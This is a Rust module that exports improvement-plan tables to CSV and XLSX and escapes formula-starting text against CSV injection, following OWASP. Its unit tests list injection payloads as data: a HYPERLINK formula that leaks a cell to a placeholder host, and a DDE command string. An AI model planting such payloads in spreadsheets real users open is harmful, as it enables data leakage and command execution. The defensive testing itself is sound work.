//! Tabular exports: a sheet is a header block, a table whose columns come from one declarative
//! layout, and a signature block. It renders to CSV (UTF-8 with BOM, so Excel in Spanish shows
//! accents) and to XLSX (bold wrapped headers, column widths, dates as dates).
use chrono::NaiveDate;
use rust_xlsxwriter::{Format, FormatAlign, FormatBorder, Workbook, XlsxError};
use std::borrow::Cow;

/// Characters that make a spreadsheet read a CSV field as a formula (OWASP "CSV injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The one neutraliser of CSV text: a text field beginning with `=`, `+`, `-`, `@`, tab or
/// carriage return gets a leading `'`, so Excel and LibreOffice show it as text instead of
/// running it (OWASP's rule). Numbers and dates never pass here: they stay numbers.
pub fn csv_text(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Writes a record of text fields, each through [`csv_text`].
fn text_record<'a, W: std::io::Write>(
    w: &mut csv::Writer<W>, fields: impl IntoIterator<Item = &'a str>,
) -> Result<(), csv::Error> {
    for field in fields {
        w.write_field(csv_text(field).as_bytes())?;
    }
    w.write_record(None::<&[u8]>)
}

fn csv_writer<W: std::io::Write>(out: W) -> csv::Writer<W> {
    csv::WriterBuilder::new().flexible(true).from_writer(out)
}

/// CSV records of table `rows` laid out by `columns` (see [`Sheet::csv_head`]).
pub fn csv_rows(columns: &[Column], rows: &[Vec<Cell>]) -> Result<Vec<u8>, csv::Error> {
    let mut out = Vec::new();
    {
        let mut w = csv_writer(&mut out);
        for row in rows {
            w.write_record(row.iter().zip(columns).map(|(cell, column)| cell.as_csv(column.kind)))?;
        }
        w.flush()?;
    }
    Ok(out)
}

/// The reverse of [`csv_text`] for files read back (an exported CSV imports as it was written):
/// drops the `'` before a formula character, as a spreadsheet does when it shows the cell.
pub fn csv_text_read(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => text,
    }
}

/// What a column holds, which decides how XLSX stores it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Wrapped text.
    Text,
    /// A number.
    Number,
    /// A date (stored as an Excel date, shown DD/MM/YYYY; `YYYY-MM-DD` in CSV).
    Date,
    /// A date as official forms write it (SIRECI): `AAAA/MM/DD` in CSV, an Excel date shown
    /// the same way in XLSX.
    FormDate,
    /// A percentage 0–100.
    Percent,
}

/// One column of a layout.
#[derive(Debug, Clone, Copy)]
pub struct Column {
    /// Header as the official format writes it.
    pub header: &'static str,
    /// Width in Excel character units.
    pub width: f64,
    /// Content kind.
    pub kind: Kind,
}

/// A column of a layout.
pub const fn col(header: &'static str, width: f64, kind: Kind) -> Column {
    Column { header, width, kind }
}

/// TI.PL03: the five columns of the seed plan.
pub const TI_PL03: &[Column] = &[
    col("CATEGORÍAS", 30.0, Kind::Text),
    col("PUNTAJE", 10.0, Kind::Number),
    col("DISEÑO ALTERNATIVAS DE MEJORA", 60.0, Kind::Text),
    col("MEJORAS PARA IMPLEMENTAR (INCLUIR PLAZO DE LA IMPLEMENTACIÓN)", 60.0, Kind::Text),
    col("EVALUACIÓN DE LA EFICACIA DE LAS ACCIONES IMPLEMENTADAS", 30.0, Kind::Text),
];

/// A cell value.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    /// Nothing.
    Empty,
    /// Text.
    Text(String),
    /// A number.
    Number(f64),
    /// A date.
    Date(NaiveDate),
}

impl Cell {
    /// Text, or empty when blank.
    pub fn text(value: impl Into<String>) -> Cell {
        let v = value.into();
        if v.is_empty() {
            Cell::Empty
        } else {
            Cell::Text(v)
        }
    }

    fn as_csv(&self, kind: Kind) -> String {
        match self {
            Cell::Empty => String::new(),
            Cell::Text(t) => csv_text(t).into_owned(),
            Cell::Number(n) if n.fract() == 0.0 => format!("{n:.0}"),
            Cell::Number(n) => format!("{n:.2}"),
            Cell::Date(d) if kind == Kind::FormDate => d.format("%Y/%m/%d").to_string(),
            Cell::Date(d) => d.format("%Y-%m-%d").to_string(),
        }
    }
}

/// A sheet ready to render.
#[derive(Debug, Clone)]
pub struct Sheet {
    /// Worksheet name (XLSX) and first line.
    pub title: String,
    /// Label/value lines above the table (entity, NIT, code, version, approval).
    pub header_block: Vec<(String, String)>,
    /// The column layout.
    pub columns: &'static [Column],
    /// Data rows, one cell per column.
    pub rows: Vec<Vec<Cell>>,
    /// Label/value lines below the table (Elaboró, Aprobó, acta).
    pub footer_block: Vec<(String, String)>,
}

impl Sheet {
    /// UTF-8 CSV with BOM: title, header block, a blank line, the table, a blank line, footer.
    pub fn to_csv(&self) -> Result<Vec<u8>, csv::Error> {
        let mut out = self.csv_head()?;
        out.extend(csv_rows(self.columns, &self.rows)?);
        out.extend(self.csv_foot()?);
        Ok(out)
    }

    /// The CSV before the rows (BOM, title, header block, a blank line, column headers): with
    /// [`csv_rows`] and [`Sheet::csv_foot`], the bytes of [`Sheet::to_csv`] in pieces.
    pub fn csv_head(&self) -> Result<Vec<u8>, csv::Error> {
        let mut out = Vec::from(&b"\xEF\xBB\xBF"[..]);
        {
            let mut w = csv_writer(&mut out);
            text_record(&mut w, [self.title.as_str()])?;
            for (k, v) in &self.header_block {
                text_record(&mut w, [k.as_str(), v.as_str()])?;
            }
            w.write_record([""])?;
            text_record(&mut w, self.columns.iter().map(|c| c.header))?;
            w.flush()?;
        }
        Ok(out)
    }

    /// The CSV after the rows: a blank line and the footer block, if any.
    pub fn csv_foot(&self) -> Result<Vec<u8>, csv::Error> {
        let mut out = Vec::new();
        if !self.footer_block.is_empty() {
            let mut w = csv_writer(&mut out);
            w.write_record([""])?;
            for (k, v) in &self.footer_block {
                text_record(&mut w, [k.as_str(), v.as_str()])?;
            }
            w.flush()?;
        }
        Ok(out)
    }

    /// Row index (0-based) of the table header in both renderings.
    pub fn table_header_row(&self) -> usize {
        self.header_block.len() + 2
    }

    /// An XLSX workbook with one worksheet.
    pub fn to_xlsx(&self) -> Result<Vec<u8>, XlsxError> {
        let mut book = Book::new(None, false);
        book.add(&self.title, self)?;
        book.finish()
    }
}

/// The cell formats of every worksheet.
struct Formats {
    bold: Format,
    header: Format,
    text: Format,
    number: Format,
    date: Format,
    form_date: Format,
    percent: Format,
}

impl Formats {
    fn new() -> Formats {
        let cell = || Format::new().set_align(FormatAlign::Top).set_border(FormatBorder::Thin);
        Formats {
            bold: Format::new().set_bold(),
            header: Format::new()
                .set_bold()
                .set_text_wrap()
                .set_align(FormatAlign::Center)
                .set_align(FormatAlign::VerticalCenter)
                .set_border(FormatBorder::Thin)
                .set_background_color("D9E1F2"),
            text: Format::new().set_text_wrap().set_align(FormatAlign::Top).set_border(FormatBorder::Thin),
            number: cell(),
            date: Format::new().set_num_format("dd/mm/yyyy").set_align(FormatAlign::Top).set_border(FormatBorder::Thin),
            form_date: Format::new()
                .set_num_format("yyyy/mm/dd")
                .set_align(FormatAlign::Top)
                .set_border(FormatBorder::Thin),
            percent: Format::new().set_num_format("0.0").set_align(FormatAlign::Top).set_border(FormatBorder::Thin),
        }
    }

    fn of(&self, kind: Kind) -> &Format {
        match kind {
            Kind::Text => &self.text,
            Kind::Number => &self.number,
            Kind::Date => &self.date,
            Kind::FormDate => &self.form_date,
            Kind::Percent => &self.percent,
        }
    }
}

/// An XLSX workbook written a worksheet at a time and, within one, a batch of rows at a time:
/// [`Book::begin`] (title, header block, column headers), [`Book::rows`] any number of times,
/// [`Book::end`] (footer block). In low-memory mode each worksheet's rows go to a temporary
/// file as they are written (rust_xlsxwriter's constant-memory writer with the shared string
/// table kept), so memory holds the distinct strings, not the cells.
pub struct Book {
    book: Workbook,
    formats: Formats,
    low_memory: bool,
    sheet: usize,
    columns: &'static [Column],
    row: u32,
}

impl Book {
    /// An empty workbook, stamped as created at `created` when given (the same sheets and
    /// instant always give the same bytes).
    pub fn new(created: Option<&chrono::DateTime<chrono::Utc>>, low_memory: bool) -> Book {
        let mut book = Workbook::new();
        if let Some(created) = created {
            book.set_properties(&rust_xlsxwriter::DocProperties::new().set_creation_datetime(created));
        }
        Book { book, formats: Formats::new(), low_memory, sheet: 0, columns: &[], row: 0 }
    }

    /// Adds `sheet` whole as a worksheet named after `name`.
    pub fn add(&mut self, name: &str, sheet: &Sheet) -> Result<(), XlsxError> {
        self.begin(name, sheet)?;
        self.rows(&sheet.rows)?;
        self.end(&sheet.footer_block)
    }

    /// Starts a worksheet named after `name` (Excel's characters only, at most 31; names must
    /// differ) with the title, header block and column headers of `head` (its rows are not
    /// written).
    pub fn begin(&mut self, name: &str, head: &Sheet) -> Result<(), XlsxError> {
        let sheet =
            if self.low_memory { self.book.add_worksheet_with_low_memory()? } else { self.book.add_worksheet() };
        let name: String = name.chars().filter(|c| !"[]:*?/\\".contains(*c)).take(31).collect();
        sheet.set_name(if name.trim().is_empty() { "Plan".to_string() } else { name })?;
        let f = &self.formats;
        let mut r: u32 = 0;
        for (i, c) in head.columns.iter().enumerate() {
            sheet.set_column_width(u16::try_from(i).unwrap_or(u16::MAX), c.width)?;
        }
        sheet.write_string_with_format(0, 0, &head.title, &f.bold)?;
        for (k, v) in &head.header_block {
            r += 1;
            sheet.write_string_with_format(r, 0, k, &f.bold)?;
            sheet.write_string(r, 1, v)?;
        }
        r += 2;
        for (i, c) in head.columns.iter().enumerate() {
            sheet.write_string_with_format(r, u16::try_from(i).unwrap_or(u16::MAX), c.header, &f.header)?;
        }
        sheet.set_freeze_panes(r + 1, 0)?;
        self.sheet = self.book.worksheets().len() - 1;
        self.columns = head.columns;
        self.row = r;
        Ok(())
    }

    /// Writes `rows` below those already written in the current worksheet.
    pub fn rows(&mut self, rows: &[Vec<Cell>]) -> Result<(), XlsxError> {
        let sheet = self.book.worksheet_from_index(self.sheet)?;
        for row in rows {
            self.row += 1;
            let r = self.row;
            for (i, (cell, column)) in row.iter().zip(self.columns).enumerate() {
                let col = u16::try_from(i).unwrap_or(u16::MAX);
                let format = self.formats.of(column.kind);
                match cell {
                    Cell::Empty => sheet.write_blank(r, col, format)?,
                    Cell::Text(t) => sheet.write_string_with_format(r, col, t, format)?,
                    Cell::Number(n) => sheet.write_number_with_format(r, col, *n, format)?,
                    Cell::Date(d) => sheet.write_date_with_format(r, col, d, format)?,
                };
            }
        }
        Ok(())
    }

    /// Ends the current worksheet with a blank line and `footer`, if any.
    pub fn end(&mut self, footer: &[(String, String)]) -> Result<(), XlsxError> {
        let sheet = self.book.worksheet_from_index(self.sheet)?;
        if !footer.is_empty() {
            self.row += 1;
            for (k, v) in footer {
                self.row += 1;
                sheet.write_string_with_format(self.row, 0, k, &self.formats.bold)?;
                sheet.write_string(self.row, 1, v)?;
            }
        }
        Ok(())
    }

    /// The workbook's bytes.
    pub fn finish(mut self) -> Result<Vec<u8>, XlsxError> {
        self.book.save_to_buffer()
    }
}

/// An XLSX workbook with one worksheet per `(name, sheet)` (names must differ), stamped as
/// created at `created`: the same sheets and instant always give the same bytes.
pub fn workbook_xlsx(
    sheets: &[(String, Sheet)], created: &chrono::DateTime<chrono::Utc>,
) -> Result<Vec<u8>, XlsxError> {
    let mut book = Book::new(Some(created), false);
    for (name, sheet) in sheets {
        book.add(name, sheet)?;
    }
    book.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use calamine::{Data, Reader, Xlsx};

    /// A fifteen-column layout with every kind of cell.
    const LAYOUT: &[Column] = &[
        col("CÓDIGO HALLAZGO", 14.0, Kind::Text),
        col("DESCRIPCIÓN HALLAZGO", 45.0, Kind::Text),
        col("CAUSA DEL HALLAZGO", 35.0, Kind::Text),
        col("EFECTO DEL HALLAZGO", 35.0, Kind::Text),
        col("ACCIÓN DE MEJORA", 40.0, Kind::Text),
        col("PROPÓSITO (OBJETIVO)", 35.0, Kind::Text),
        col("DESCRIPCIÓN DE LA ACTIVIDAD", 45.0, Kind::Text),
        col("UNIDAD DE MEDIDA", 16.0, Kind::Text),
        col("CANTIDAD", 10.0, Kind::Number),
        col("FECHA DE INICIO", 13.0, Kind::Date),
        col("FECHA DE TERMINACIÓN", 13.0, Kind::Date),
        col("PLAZO EN SEMANAS", 10.0, Kind::Number),
        col("AVANCE FÍSICO DE EJECUCIÓN", 12.0, Kind::Number),
        col("PORCENTAJE DE AVANCE", 12.0, Kind::Percent),
        col("OBSERVACIONES", 35.0, Kind::Text),
    ];

    fn sample() -> Sheet {
        Sheet {
            title: "Plan de mejoramiento".into(),
            header_block: vec![
                ("Entidad".into(), "Concejo Municipal de Cartago".into()),
                ("NIT".into(), "900215967-5".into()),
            ],
            columns: LAYOUT,
            rows: vec![vec![
                Cell::text("H-01"),
                Cell::text("Sin revisión de accesos"),
                Cell::Empty,
                Cell::Empty,
                Cell::text("Revisar accesos"),
                Cell::Empty,
                Cell::Empty,
                Cell::text("revisiones"),
                Cell::Number(4.0),
                Cell::Date(NaiveDate::from_ymd_opt(2025, 2, 1).unwrap()),
                Cell::Date(NaiveDate::from_ymd_opt(2025, 11, 30).unwrap()),
                Cell::Number(43.0),
                Cell::Number(2.0),
                Cell::Number(50.0),
                Cell::text("Acción núm. 1"),
            ]],
            footer_block: vec![("Elaboró".into(), "Martha".into())],
        }
    }

    #[test]
    fn csv_in_pieces_gives_the_same_bytes_and_low_memory_xlsx_the_same_cells() {
        let s = sample();
        let mut pieces = s.csv_head().unwrap();
        pieces.extend(csv_rows(s.columns, &s.rows[..0]).unwrap());
        pieces.extend(csv_rows(s.columns, &s.rows).unwrap());
        pieces.extend(s.csv_foot().unwrap());
        assert_eq!(pieces, s.to_csv().unwrap());
        let at = chrono::DateTime::from_timestamp(1_751_241_600, 0).unwrap();
        let mut other = sample();
        other.title = "Otra".into();
        let sheets = vec![("Uno".to_string(), s.clone()), ("Dos".to_string(), other)];
        let low_memory = || {
            let mut book = Book::new(Some(&at), true);
            for (name, sheet) in &sheets {
                book.begin(name, sheet).unwrap();
                for row in &sheet.rows {
                    book.rows(std::slice::from_ref(row)).unwrap();
                }
                book.end(&sheet.footer_block).unwrap();
            }
            book.finish().unwrap()
        };
        let low = low_memory();
        assert_eq!(low, low_memory(), "the same sheets give the same bytes");
        // The low-memory writer leaves out the rows' optional `spans` hint: the cells are the same.
        let whole = workbook_xlsx(&sheets, &at).unwrap();
        let cells = |bytes: &[u8], name: &str| {
            let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
            book.worksheet_range(name).unwrap().rows().map(|r| r.to_vec()).collect::<Vec<_>>()
        };
        for name in ["Uno", "Dos"] {
            assert_eq!(cells(&low, name), cells(&whole, name), "{name}");
        }
    }

    #[test]
    fn csv_text_neutralises_formula_starts_and_reads_back() {
        for (raw, safe) in [
            ("=HYPERLINK(\"http://x/?\"&A1,\"ver\")", "'=HYPERLINK(\"http://x/?\"&A1,\"ver\")"),
            ("+cmd|\" /C calc\"!A0", "'+cmd|\" /C calc\"!A0"),
            ("-2+3", "'-2+3"),
            ("@evil", "'@evil"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Revisar accesos", "Revisar accesos"),
            ("'ya", "'ya"),
            ("", ""),
        ] {
            assert_eq!(csv_text(raw), safe);
            assert_eq!(csv_text_read(&csv_text(raw)), raw);
        }
    }

    #[test]
    fn csv_text_cells_are_neutralised_and_numbers_are_not() {
        let mut s = sample();
        s.title = "=1+1".into();
        s.rows[0][4] = Cell::text("@SUM(A1)");
        s.rows[0][8] = Cell::Number(-4.0);
        let text = String::from_utf8(s.to_csv().unwrap()[3..].to_vec()).unwrap();
        assert!(text.starts_with("'=1+1\n"), "{text}");
        assert!(text.contains(",'@SUM(A1),"), "{text}");
        assert!(text.contains(",-4,"), "{text}");
    }

    #[test]
    fn csv_starts_with_a_bom_and_keeps_accents() {
        let bytes = sample().to_csv().unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert!(text.contains("CÓDIGO HALLAZGO,DESCRIPCIÓN HALLAZGO"));
        assert!(text.contains("2025-02-01"));
    }

    #[test]
    fn xlsx_holds_headers_text_numbers_and_real_dates() {
        let s = sample();
        let bytes = s.to_xlsx().unwrap();
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        let range = book.worksheet_range("Plan de mejoramiento").unwrap();
        let h = u32::try_from(s.table_header_row()).unwrap();
        assert_eq!(range.get_value((h, 0)), Some(&Data::String("CÓDIGO HALLAZGO".into())));
        assert_eq!(range.get_value((h + 1, 4)), Some(&Data::String("Revisar accesos".into())));
        assert_eq!(range.get_value((h + 1, 8)), Some(&Data::Float(4.0)));
        match range.get_value((h + 1, 9)) {
            Some(Data::DateTime(d)) => {
                assert_eq!(d.as_datetime().unwrap().date(), NaiveDate::from_ymd_opt(2025, 2, 1).unwrap())
            }
            other => panic!("not a date: {other:?}"),
        }
    }
}
